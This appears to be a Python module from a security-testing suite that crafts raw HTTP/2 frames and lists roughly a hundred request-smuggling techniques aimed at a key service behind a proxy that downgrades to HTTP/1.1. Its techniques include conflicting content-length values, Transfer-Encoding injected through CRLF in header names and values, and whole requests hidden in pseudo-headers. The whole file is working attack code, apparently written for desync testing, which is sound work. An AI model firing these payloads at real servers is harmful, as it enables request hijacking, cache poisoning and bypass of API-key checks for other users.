"""The same over HTTP/2, which a proxy writes anew as HTTP/1.1: frames, well formed or not.

After Kettle, "HTTP/2: the sequel is always worse" (2021), and RFC 9113 sections 8.1 to 8.3.
"""

from __future__ import annotations

import socket
import time
from dataclasses import dataclass
from typing import TYPE_CHECKING, Final

from campaigns.misuse.techniques import BEGUN, HIDDEN, JSON
from campaigns.misuse.wire import Answer, Spoken, received

if TYPE_CHECKING:
    from collections.abc import Sequence

    from hpack import Decoder

Header = tuple[bytes, bytes]

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST, _SETTINGS, _GOAWAY, _CONTINUATION = 0, 1, 3, 4, 7, 9
_END_STREAM, _END_HEADERS, _ACK, _PADDED, _PRIORITY = 1, 4, 1, 8, 32
_QUIET_SECONDS: Final = 0.08


@dataclass(frozen=True)
class H2Technique:
    """One stream: its headers, its data (None: it ends with them), and trailers."""

    name: str
    headers: tuple[Header, ...]
    data: bytes | None = None
    trailers: tuple[Header, ...] = ()
    family: str = "HTTP/2"
    open_to_all: bool = True


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
    )


def sent_as_h2(
    connection: socket.socket, technique: H2Technique, api_key: bytes, patience: float
) -> Spoken:
    """Send it on stream 1 of a connection whose protocol is h2, and read what comes back."""
    from hpack import Decoder, Encoder

    headers = [(name, value.replace(b"API_KEY", api_key)) for name, value in technique.headers]
    block = Encoder().encode(headers, huffman=False)
    ends = technique.data is None and not technique.trailers
    sent = _PREFACE + _frame(_SETTINGS, 0, 0, b"")
    sent += _frame(_HEADERS, _END_HEADERS | (_END_STREAM if ends else 0), 1, block)
    if technique.data is not None:
        flags = 0 if technique.trailers else _END_STREAM
        sent += _frame(_DATA, flags, 1, technique.data)
    if technique.trailers:
        trailers = Encoder().encode(list(technique.trailers), huffman=False)
        sent += _frame(_HEADERS, _END_HEADERS | _END_STREAM, 1, trailers)
    connection.sendall(sent)
    return _answers(connection, Decoder(), patience)


def _answers(connection: socket.socket, decoder: Decoder, patience: float) -> Spoken:
    found = Spoken()
    raw, bodies, heads = b"", b"", []
    ended = False
    began = time.monotonic()
    while time.monotonic() - began < patience:
        more = received(connection, _QUIET_SECONDS if ended else patience)
        if not more:
            found.closed = more is not None
            break
        raw += more
        while len(raw) >= 9 and len(raw) >= 9 + int.from_bytes(raw[:3], "big"):
            size = int.from_bytes(raw[:3], "big")
            kind, flags, payload, raw = raw[3], raw[4], raw[9 : 9 + size], raw[9 + size :]
            if kind == _HEADERS:
                if flags & _PADDED or flags & _PRIORITY:
                    raise ValueError("a head that is not read here")
                heads.append(dict(decoder.decode(payload, raw=True)))
            elif kind == _DATA:
                bodies += payload
            elif kind == _SETTINGS and not flags & _ACK:
                connection.sendall(_frame(_SETTINGS, _ACK, 0, b""))
            elif kind == _GOAWAY:
                found.closed = True
            ended = (
                ended
                or kind in (_RST, _GOAWAY)
                or bool(kind in (_HEADERS, _DATA) and flags & _END_STREAM)
            )
    for head in heads:
        if (status := int(head[b":status"])) >= 200:
            request_id = head.get(b"x-request-id")
            found.answers.append(
                Answer(status, request_id.decode() if request_id else None, bodies)
            )
    return found


def _pseudo(
    method: bytes, path: bytes, *, scheme: bytes = b"https", host: bytes = b"keys.example"
) -> tuple[Header, ...]:
    return (b":method", method), (b":scheme", scheme), (b":authority", host), (b":path", path)


_GET: Final = _pseudo(b"GET", b"/health/live")
_POST: Final = (
    *_pseudo(b"POST", b"/crypto/encrypt"),
    (b"content-type", b"application/json"),
    (b"x-api-key", b"API_KEY"),
)


def _length(number: int) -> Header:
    return b"content-length", b"%d" % number


def _techniques() -> list[H2Technique]:
    line = b" HTTP/1.1\r\nHost: keys.example\r\n\r\n" + BEGUN
    smuggled = b"\r\n\r\n" + HIDDEN
    post, get = _POST, _GET
    some = [
        H2Technique("a good one", post, JSON),
        H2Technique("a length that is right", (*post, _length(len(JSON))), JSON),
        H2Technique("a length too small", (*post, _length(len(JSON))), JSON + HIDDEN),
        H2Technique("a length of zero", (*post, _length(0)), HIDDEN),
        H2Technique("a length too large", (*post, _length(len(JSON) + 40)), JSON),
        H2Technique("a length and no data", (*get, _length(40))),
        H2Technique("two lengths", (*post, _length(0), _length(len(JSON))), JSON),
        H2Technique("a length that is a list", (*post, (b"content-length", b"0, 14")), JSON),
        H2Technique("a length with a sign", (*post, (b"content-length", b"+14")), JSON),
        H2Technique("data of a GET", get, HIDDEN),
        H2Technique("data of a GET with its length", (*get, _length(len(HIDDEN))), HIDDEN),
        H2Technique(
            "Transfer-Encoding", (*post, (b"transfer-encoding", b"chunked")), b"0\r\n\r\n" + HIDDEN
        ),
        H2Technique(
            "Transfer-Encoding, another case",
            (*post, (b"Transfer-Encoding", b"chunked")),
            b"0\r\n\r\n" + HIDDEN,
        ),
        H2Technique(
            "Transfer-Encoding in another's value",
            (*post, (b"x-a", b"b\r\nTransfer-Encoding: chunked")),
            b"0\r\n\r\n" + HIDDEN,
        ),
        H2Technique(
            "Transfer-Encoding in another's name",
            (*post, (b"x-a: b\r\nTransfer-Encoding", b"chunked")),
            b"0\r\n\r\n" + HIDDEN,
        ),
        H2Technique(
            "Transfer-Encoding behind LF",
            (*post, (b"x-a", b"b\nTransfer-Encoding: chunked")),
            b"0\r\n\r\n" + HIDDEN,
        ),
        H2Technique(
            "Transfer-Encoding behind CR",
            (*post, (b"x-a", b"b\rTransfer-Encoding: chunked")),
            b"0\r\n\r\n" + HIDDEN,
        ),
        H2Technique(
            "Transfer-Encoding as a trailer", post, JSON, ((b"transfer-encoding", b"chunked"),)
        ),
        H2Technique("a length as a trailer", post, JSON, (_length(len(HIDDEN)),)),
        H2Technique("an API key as a trailer", post, JSON, ((b"x-api-key", b"another"),)),
        H2Technique("trailers without data", (*post, _length(0)), None, ((b"x-a", b"b"),)),
        H2Technique("a request in a value", (*get, (b"x-a", b"b" + smuggled))),
        H2Technique("a request in a name", (*get, (b"x-a" + smuggled + b"x", b"b"))),
        H2Technique("NUL in a value", (*get, (b"x-a", b"b\x00c"))),
        H2Technique("NUL in a name", (*get, (b"x\x00a", b"b"))),
        H2Technique("a colon in a name", (*get, (b"x-a: b", b"c"))),
        H2Technique("a colon before a name", (*get, (b":x-a", b"b"))),
        H2Technique("an empty name", (*get, (b"", b"b"))),
        H2Technique("a space in a name", (*get, (b"x a", b"b"))),
        H2Technique("capitals in a name", (*get, (b"X-A", b"b"))),
        H2Technique("a raw byte in a name", (*get, (b"x\xffa", b"b"))),
        H2Technique("blanks around a value", (*get, (b"x-a", b" b "))),
        *(
            H2Technique(f"the hop-by-hop header {name}", (*get, (name.encode(), value)))
            for name, value in (
                ("connection", b"x-api-key"),
                ("upgrade", b"h2c"),
                ("keep-alive", b"timeout=1"),
                ("proxy-connection", b"close"),
                ("te", b"chunked"),
                ("http2-settings", b"AAAA"),
            )
        ),
        H2Technique("Expect", (*post, (b"expect", b"100-continue"), _length(len(JSON))), JSON),
        H2Technique("two API keys", (*post, (b"x-api-key", b"another")), JSON),
        H2Technique("a host beside the authority", (*get, (b"host", b"other.example"))),
        H2Technique("two hosts", (*get, (b"host", b"keys.example"), (b"host", b"other.example"))),
        H2Technique(
            "another's address",
            (*get, (b"x-forwarded-for", b"192.0.2.1"), (b"forwarded", b"for=192.0.2.1")),
        ),
        H2Technique(
            "a pseudo-header behind a header", (get[0], get[1], get[2], (b"x-a", b"b"), get[3])
        ),
        H2Technique("an unknown pseudo-header", (*get[:3], (b":protocol", b"websocket"), get[3])),
        H2Technique("a header many times", (*get, *((b"x-a", b"b"),) * 150)),
        H2Technique("a header of 9,000 bytes", (*get, (b"x-a", b"b" * 9_000))),
    ]
    for which, values in {
        ":method": (
            b"GET /.well-known/jwks.json HTTP/1.1\r\nX: y",
            b"GE T",
            b"get",
            b"",
            b"GET\x00",
            b"CONNECT",
        ),
        ":path": (
            b"/health/live" + line,
            b"/health/live HTTP/1.1",
            b"/a b",
            b"/health/live\r\nX-A: b",
            b"/\x00",
            b"",
            b"*",
            b"health/live",
            b"https://other.example/health/live",
            b"//health/live",
            b"/health/../keys",
            b"/health/live#a",
            b"/health/live\x7f",
            b"/health/live\xff",
        ),
        ":authority": (
            b"",
            b"other.example",
            b"keys.example\r\nX-A: b",
            b"keys.example\r\n\r\n" + HIDDEN,
            b"a b",
            b"keys.example:x",
            b"other.example@keys.example",
            b"keys.example/a",
        ),
        ":scheme": (b"http", b"", b"https://other.example/?", b"https\r\nX-A: b", b"file"),
    }.items():
        for value in values:
            headers = tuple((name, value if name == which.encode() else old) for name, old in get)
            shown = ascii(value.decode("latin-1"))[1:-1]
            some.append(H2Technique(f"{which} {shown[:40] or 'empty'}", headers))
        without = tuple(each for each in get if each[0] != which.encode())
        some.append(H2Technique(f"no {which}", without))
        twice = (*get, next(each for each in get if each[0] == which.encode()))
        some.append(H2Technique(f"two of {which}", twice))
    return some


def h2_techniques() -> Sequence[H2Technique]:
    """Every technique that needs HTTP/2 in front."""
    return _techniques()
